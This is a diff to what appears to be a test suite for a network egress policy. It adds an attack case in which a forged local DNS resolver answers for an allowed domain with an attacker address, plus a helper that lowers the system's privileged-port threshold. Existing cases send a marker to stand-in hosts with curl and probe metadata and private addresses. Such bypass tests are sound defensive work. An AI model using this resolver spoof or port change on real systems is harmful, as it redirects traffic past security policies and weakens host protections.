@@ -1,6 +1,7 @@
 """Class 10: answers that lie. lie.example is served by the attacker; see LIES in rig/attacker.py."""
 
 import contextlib
+import pathlib
 import socket
 import threading
 
@@ -30,7 +31,43 @@ def relay(case, marker):
     threading.Thread(target=serve, daemon=True).start()
 
 
+def open_ports(case, marker):
+    """As in containers: everybody may bind port 53."""
+    path = pathlib.Path("/proc/sys/net/ipv4/ip_unprivileged_port_start")
+    case.addCleanup(path.write_text, path.read_text())
+    path.write_text("0")
+
+
+# Is the resolver that the policy allows, then asks itself.
+OWN_RESOLVER = """
+import threading
+wanted = query("www.allowed.example")
+def answer(q): return q[:2] + b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + wanted[12:] \\
+    + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4" + socket.inet_aton(ATTACKER)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.53", 53)); u.settimeout(None)
+t = socket.create_server(("127.0.0.53", 53)); t.settimeout(None)
+def serve_udp():
+    while True:
+        q, peer = u.recvfrom(600)
+        try: u.sendto(answer(q), peer)
+        except OSError: pass
+def serve_tcp():
+    while True:
+        c, _ = t.accept(); q = c.recv(600)
+        c.sendall(struct.pack(">H", len(answer(q[2:]))) + answer(q[2:]))
+for serve in (serve_udp, serve_tcp): threading.Thread(target=serve, daemon=True).start()
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(wanted, ("127.0.0.53", 53)); s.recv(500)
+except OSError: pass
+try:
+    s = socket.create_connection(("127.0.0.53", 53)); s.sendall(struct.pack(">H", len(wanted)) + wanted)
+    s.recv(500)
+except OSError: pass
+tcp()"""
+
 ATTACKS = [
+    Attack("its own resolver", OWN_RESOLVER, policy="127.0.0.53:53/udp\nwww.allowed.example:*\n",
+           prepare=open_ports),
     fetch("the metadata service", "metadata.lie.example", open=LATER),
     fetch("a private address", "private.lie.example", open=LATER),
     Attack("loopback", "curl -sS -m 4 http://loopback.lie.example:7777/$MARKER", shell=True, policy=HOSTS,
